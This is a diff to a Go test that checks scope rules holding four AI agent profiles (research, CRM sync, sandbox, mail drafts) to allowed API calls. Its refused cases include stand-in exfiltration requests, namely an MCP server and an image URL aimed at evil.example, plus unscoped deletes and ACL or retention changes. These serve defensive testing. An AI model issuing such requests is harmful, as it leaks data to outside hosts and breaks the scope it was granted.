@@ -42,22 +42,28 @@ func TestFourAgentsAreHeldToTheirScopesByRules(t *testing.T) {
 	defs := examples(t)
 	for name, of := range map[string]struct{ allowed, refused []string }{
 		"openai-research": {
-			[]string{`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides"}`, `GET /v1/models`},
+			[]string{`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false}`, `GET /v1/models`},
 			[]string{
-				`POST /v1/responses {"model":"gpt-5","tools":[{"type":"web_search"}]}`,
-				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"code_interpreter"}]}`,
-				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"},{"type":"mcp","server_url":"https://evil.example"}]}`,
-				`POST /v1/responses {"model":"gpt-5-mini","model":"gpt-5","tools":[{"type":"web_search"}]}`,
-				`POST /v1/responses {"model":"gpt-5-mini"}`, `POST /v1/files {}`, `POST /v1/chat/completions {"model":"gpt-5-mini"}`, `DELETE /v1/responses/1`,
+				`POST /v1/responses {"model":"gpt-5","tools":[{"type":"web_search"}],"input":"tides","store":false}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"code_interpreter"}],"input":"tides","store":false}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"},{"type":"mcp","server_url":"https://evil.example"}],"input":"tides","store":false}`,
+				`POST /v1/responses {"model":"gpt-5-mini","model":"gpt-5","tools":[{"type":"web_search"}],"input":"tides","store":false}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides"}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":true}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=x"}]}],"store":false}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"previous_response_id":"resp_1"}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"conversation":{"id":"conv_1"}}`,
+				`POST /v1/responses {"model":"gpt-5-mini","tools":[{"type":"web_search"}],"input":"tides","store":false,"prompt":{"id":"pmpt_1"}}`,
+				`POST /v1/responses {"model":"gpt-5-mini","input":"tides","store":false}`, `POST /v1/files {}`, `POST /v1/chat/completions {"model":"gpt-5-mini"}`, `DELETE /v1/responses/1`,
 			},
 		},
 		"crm-sync": {
 			[]string{`GET /v3/objects/contacts?limit=10`, `PATCH /v3/objects/contacts/7 {}`, `POST /v3/objects/contacts/search {}`},
-			[]string{`GET /v3/objects/companies`, `GET /v3/objects/invoices/1`, `DELETE /v3/objects/contacts/7`, `POST /v3/objects/contacts/batch/archive {}`, `GET /v3/owners`, `POST /oauth/token {}`},
+			[]string{`GET /v3/objects/companies`, `GET /v3/objects/invoices/1`, `DELETE /v3/objects/contacts/7`, `POST /v3/objects/contacts/merge {}`, `POST /v3/objects/contacts/gdpr-delete {}`, `POST /v3/objects/contacts/batch/archive {}`, `GET /v3/owners`, `POST /oauth/token {}`},
 		},
 		"sandbox": {
 			[]string{`PUT /agent-sandbox/code-runner/task-1/out.txt`, `GET /agent-sandbox/code-runner/task-1/in/a.csv`},
-			[]string{`GET /agent-sandbox/other/x`, `GET /agent-sandbox?list-type=2`, `DELETE /agent-sandbox/code-runner/task-1/x`, `PUT /agent-sandbox/code-runner/task-1/x?acl`, `GET /other-bucket/code-runner/t/x`, `PUT /agent-sandbox/code-runner`},
+			[]string{`GET /agent-sandbox/other/x`, `GET /agent-sandbox?list-type=2`, `DELETE /agent-sandbox/code-runner/task-1/x`, `PUT /agent-sandbox/code-runner/task-1/x?acl`, `PUT /agent-sandbox/code-runner/task-1/x?retention`, `PUT /agent-sandbox/code-runner/task-1/x?tagging`, `GET /other-bucket/code-runner/t/x`, `PUT /agent-sandbox/code-runner`},
 		},
 		"mail-drafts": {
 			[]string{`POST /v1.0/users/me@example.com/messages {}`, `PATCH /v1.0/users/me@example.com/messages/AAA {}`, `GET /v1.0/users/me@example.com/mailFolders/drafts/messages`},
